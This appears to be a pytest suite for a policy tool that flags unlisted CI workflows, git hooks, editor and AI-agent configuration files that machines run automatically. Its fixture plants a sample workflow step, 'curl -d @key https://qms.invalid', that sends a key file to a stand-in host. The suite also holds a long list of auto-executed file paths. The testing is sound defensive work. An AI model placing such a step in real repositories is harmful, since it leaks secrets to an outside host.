"""What a forge would run and no policy lists: told, with a way out for whoever wants it or not."""

import re
from pathlib import Path

import pytest

from qms.resources import template_folder
from qms.testing.mended import committed as committed_all
from qms.testing.mended import done, fine, shared, told
from qms.testing.office import Answer, Office

SIGNERS = ("gao.feng", "guan.ning")
LISTED = ".github/workflows/qms.yml"
THIEF = ".github/workflows/tidy.yml"
STEAL = "on: push\njobs: {tidy: {steps: [{run: 'curl -d @key https://qms.invalid'}]}}\n"


@pytest.fixture
def on_a_forge(lx: Office) -> Office:
    """LX with a CI file in its policy."""
    lx.write(LISTED, (template_folder() / LISTED).read_text("utf-8"))
    for signer in SIGNERS:
        lx.qms("policy", "sign", by=signer)
    return lx


def codes(answer: Answer) -> set[str]:
    """Of its findings, save that a folder beside is called so but for its case."""
    return set(answer.findings) - {"NAME-TWINS"}


def committed(office: Office, path: str) -> str:
    """A workflow that somebody commits; gives the commit before it."""
    before = office.git("rev-parse", "HEAD")
    office.write(path, STEAL)
    office.git("add", "-f", path)
    office.git("commit", "-q", "-m", "Tidy")
    return before


@pytest.mark.parametrize(
    "path",
    [
        THIEF, ".github/workflows/qms.yaml", ".github/workflows/x/y.sh", ".GitHub/Workflows/x.yml",
        ".github/actions/setup/action.yml", ".gitea/workflows/x.yml", ".forgejo/workflows/x.yml",
        ".workflow/x.yml", ".gitlab-ci.yml", ".gitattributes",
        ".cnb.yml", ".codeup/x.yml", ".coding-ci.yml", "Jenkinsfile",
        ".envrc", ".lfsconfig", "cloudbuild.yaml", ".vscode/tasks.json", ".gitlab/agents/a/b.yaml",
        "package.json", ".lintstagedrc", "assets/a/package.json", "notes/.lintstagedrc.mjs",
        "notes/a/.pre-commit-config.yaml", ".notes/Prek.toml", "notes/PRE-CO~1.YAM",
        ".claude/settings.json", ".claude/hooks/x.sh", ".cursor/mcp.json", ".gemini/settings.json",
        ".zed/tasks.json", ".idea/runConfigurations/x.xml", ".idea/workspace.xml", "mise.toml",
        ".mise.toml", ".config/mise.toml", ".config/mise/config.toml", "mise/config.toml",
        "devfile.yaml", ".devfile.yaml", ".huskyrc.json", "husky.config.cjs",
        ".config/lefthook.yml", "amplify.yml", "render.yaml", "codemagic.yaml", "bitrise.yml",
        "screwdriver.yaml", ".github/dependabot.yml", ".GitHub/Dependabot.yml", ".mergify.yml",
        "renovate.json", ".exrc", "notes/a/.dir-locals.el", "CONFIG~1/mise.toml",
        ".pre-commit-config.yaml", "lefthook.yml", "lefthook-local.yml", ".husky/pre-commit",
        "assets/.gitattributes", "assets/a/b/.GitAttributes", "assets/GITATT~1",
        "GITATT~1", "GITLAB~1.YML", "GITHUB~1/workflows/x.yml", ".github/WORKFL~1/x.yml",
    ],
)  # fmt: skip
def test_what_machines_go_by_is_listed_or_it_is_wrong(on_a_forge: Office, path: str) -> None:
    """Row 162 (LRV: POLICY-UNLISTED): a forge runs it with the secrets that it has.

    Row 205 (LRV: POLICY-UNLISTED): so do services that firms have beside it.
    Row 270 (LRV: POLICY-UNLISTED): or git itself, on the machine of whoever installed hooks once.
    Row 277 (LRV: POLICY-UNLISTED): in whatever folder, where a runner of hooks looks into each.
    Row 333 (LRV: POLICY-UNLISTED): so do editors and helpers, in whatever folder they are opened.
    Row 242 (LRV: POLICY-UNLISTED): or git changes by it the pictures that it lays out.
    Row 204 (LRV: POLICY-UNLISTED): or Windows writes it into the file whose short name it is.
    """
    office = on_a_forge
    office.write(path, STEAL)
    added = office.call("check")
    (office.folder / path).unlink()
    before = committed(office, path)

    assert (added.code, codes(added)) == (1, {"POLICY-UNLISTED"}), added
    for judged in (
        ("check", "--all"),
        ("check", path),
        ("check", "--step", before, "HEAD"),
        ("verify",),
    ):
        answer = office.call(*judged)
        assert (answer.code, codes(answer)) == (1, {"POLICY-UNLISTED"}), answer
        assert f"{path}: error" in answer.out


@pytest.mark.parametrize(
    "path",
    [
        ".github/CODEOWNERS",
        ".github/workflow.md",
        ".github/notes/dependabot.yml",
        ".config/notes.md",
        ".config/mise.toml/a.md",
        "mise/plan.md",
        "notes/.claude/settings.json",
        "workflows/x.yml",
        "assets/.gitlab-ci.yml",
        "site/package.json",
        "notes/prek.toml/a.md",
        "drawings/.gitattributes",
        "assets/gitattributes",
    ],
)
def test_what_no_forge_runs_is_free(on_a_forge: Office, path: str) -> None:
    before = committed(on_a_forge, path)

    for judged in (("check", "--all"), ("check", "--step", before, "HEAD"), ("verify",)):
        assert (on_a_forge.call(*judged).code, on_a_forge.call(*judged).findings) == (0, ())


def test_a_link_in_the_place_of_the_workflows_is_one(lx: Office) -> None:
    """Row 162 (L: POLICY-UNLISTED)"""
    lx.write("drafts/workflows/x.yml", STEAL)
    (lx.folder / ".github").symlink_to("drafts")

    assert lx.call("check").findings == ("POLICY-UNLISTED",)


def test_who_has_no_policy_that_lists_any_is_told_too(lx: Office) -> None:
    """Row 162 (L: POLICY-UNLISTED): their forge runs it as well."""
    lx.write(THIEF, STEAL)

    assert lx.call("check").findings == ("POLICY-UNLISTED",)


@pytest.mark.parametrize("how", ["untracked", "staged", "committed", "edited"])
def test_it_is_taken_out_by_the_command_that_is_named(on_a_forge: Office, how: str) -> None:
    office = on_a_forge
    office.write(THIEF, STEAL)
    if how != "untracked":
        office.git("add", "-A")
    if how in {"committed", "edited"}:
        office.git("commit", "-q", "-m", "Tidy")
    if how == "edited":
        office.write(THIEF, STEAL * 2)

    for _ in range(2 if how == "edited" else 1):
        said = office.call("check", "--all").out
        command = re.search(r"take it out with `([^`]+)`", said)
        assert command is not None, said
        office.git(*command[1].split()[1:])
    if how in {"committed", "edited"}:
        office.git("commit", "-q", "-m", "remove")

    assert (office.call("check", "--all").code, office.status) == (0, "")
    kept = office.git("stash", "list")
    assert bool(kept) is (how != "committed"), "what no commit holds is thrown away by nobody"


@pytest.mark.parametrize("name", ["?.yml", "[0-9].yml"])
@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("is_committed", [True, False])
def test_a_name_that_git_takes_for_a_pattern_takes_out_itself_alone(
    on_a_forge: Office, name: str, lang: str, *, is_committed: bool
) -> None:
    """Row 203 (L: POLICY-UNLISTED): a mend that was typed took all workflows away."""
    office = on_a_forge
    honest = ".github/workflows/1.yml"
    office.write(honest, "on: push\njobs: {}\n")
    for signer in SIGNERS:
        office.qms("policy", "sign", by=signer)
    shared(office)
    office.write(f".github/workflows/{name}", STEAL)
    if is_committed:
        committed_all(office)

    commands = told(office, "POLICY-UNLISTED", lang, "check", "--all")
    done(office, *(one for one in commands if one.startswith("git") and name in one))

    if is_committed:
        office.git("commit", "-qm", "remove")
    fine(office)
    assert office.text(honest).startswith("on: push")


@pytest.mark.parametrize(
    "path",
    [
        THIEF,
        ".github/workflows/a b, 中.yml",
        ".github/actions/x/run.sh",
        "package.json",
        "notes/.pre-commit-config.yaml",
    ],
)
def test_the_keepers_list_it(on_a_forge: Office, path: str) -> None:
    office = on_a_forge
    committed(office, path)

    shown = office.qms("policy", "sign", by="gao.feng")

    assert "curl -d @key" in shown, "what is agreed to is shown"
    assert office.call("check", "--all").code == 0, "a keeper signed it"
    office.qms("policy", "sign", by="guan.ning")
    for judged in (("check", "--all"), ("verify",)):
        assert (office.call(*judged).code, office.call(*judged).findings) == (0, ())
    office.edit(path, "curl", "wget")
    assert office.call("check").findings == ("POLICY-FILE",)


def test_what_a_keeper_lists_by_hand_stays_listed(on_a_forge: Office) -> None:
    """A script that a workflow runs, or a file that `.gitlab-ci.yml` includes."""
    office = on_a_forge
    office.write("ci/publish.yml", STEAL)
    row = f'files: [{{path: ci/publish.yml, sha256: "sha256:{"0" * 64}"}}, '
    office.edit("policy.yaml", "files: [", row)
    for signer in SIGNERS:
        office.qms("policy", "sign", by=signer)
    office.edit("people.yaml", "zh: 高峰", "zh: 高锋")
    for signer in SIGNERS:
        office.qms("policy", "sign", by=signer)

    assert (office.call("check", "--all").code, office.status) == (0, "")
    office.edit("ci/publish.yml", "curl", "wget")
    assert office.call("check").findings == ("POLICY-FILE",)


@pytest.mark.parametrize("path", ["scripts/PUBLIS~1.YML", "SCRIPT~1/publishing.yml"])
def test_a_short_name_of_what_a_keeper_lists_is_listed_too(lx: Office, path: str) -> None:
    """Row 204 (L: POLICY-UNLISTED)"""
    lx.write("scripts-of-ours/publishing.yml", STEAL)
    lx.write("scripts/publishing.yml", STEAL)
    rows = "".join(
        f'{{path: {one}/publishing.yml, sha256: "sha256:{"0" * 64}"}}, '
        for one in ("scripts", "scripts-of-ours")
    )
    lx.edit("policy.yaml", "files: [", f"files: [{rows}")
    for signer in SIGNERS:
        lx.qms("policy", "sign", by=signer)
    lx.write(path, STEAL)

    assert lx.call("check").findings == ("POLICY-UNLISTED",)


def test_at_a_gate_one_that_stood_before_refuses_nothing_else(
    drafted: Office, server: Path
) -> None:
    """Row 162 (R): whoever got it in before there was a gate, or this rule, stops nobody."""
    hook = server / "hooks" / "pre-receive"
    hook.rename(hook.with_suffix(".off"))
    committed(drafted, THIEF)
    assert drafted.push("main")[0] == 0
    hook.with_suffix(".off").rename(hook)
    drafted.edit("documents/work-instruction/LX-WI-01.md", "title: 车床", "title: 车床二")
    drafted.git("commit", "-qam", "Title")

    code, said = drafted.push("main")

    assert (code, "POLICY-UNLISTED" in said) == (0, True), said
    drafted.write(THIEF, STEAL * 2)
    drafted.git("commit", "-qam", "Tidy more")
    code, said = drafted.push("main")
    assert (code != 0, "POLICY-UNLISTED" in said) == (True, True), said


def test_each_of_many_is_told_with_its_way_out(on_a_forge: Office) -> None:
    """Row 162 (L: POLICY-UNLISTED)"""
    office = on_a_forge
    for at in range(30):
        office.write(f".github/workflows/{at}.yml", STEAL)

    said = office.call("check")

    assert said.findings == ("POLICY-UNLISTED",) * 30
    assert said.out.count("`git stash push -u -- .github/workflows/") == 30
